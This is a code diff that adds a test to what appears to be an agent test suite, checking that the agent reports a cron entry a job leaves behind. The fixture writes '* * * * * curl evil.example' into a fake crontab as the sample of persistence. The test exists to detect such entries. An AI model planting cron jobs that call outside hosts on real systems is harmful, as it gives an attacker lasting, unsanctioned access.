@@ -89,6 +89,22 @@ test('an agent that is stopped ends what it runs', async () => {
   expect(existsSync(`/proc/${pid()}`)).toBe(false);
 });
 
+test('what a job leaves in cron is told', async () => {
+  const bench = await openBench();
+  const folder = temporaryFolder();
+  const table = join(folder, 'table');
+  writeFileSync(table, '0 3 * * * /usr/bin/nightly\n');
+  writeFileSync(join(folder, 'crontab'), `#!/bin/sh\ncat ${table}\n`, { mode: 0o755 });
+  await bench.startAgent({ path: `${folder}:${process.env.PATH}` });
+  const adds = step(script(`fs.appendFileSync(args[0], '* * * * * curl evil.example\\n')`, table));
+  const job = await bench.newJob({ type: 'commands', steps: [adds, step(script('0'))] });
+  await bench.until(job.id, 'done');
+  const said = (await bench.trail(job.id)).filter(({ type }) => type === 'agent.said');
+  expect(said).toHaveLength(1);
+  expect(said[0]?.data.text).toContain('* * * * * curl evil.example');
+  expect(said[0]?.data.text).not.toContain('nightly');
+});
+
 test('a server that is away for a while is waited for; nothing is lost or done twice', async () => {
   const bench = await openBench();
   const line = await openLine(bench.url);
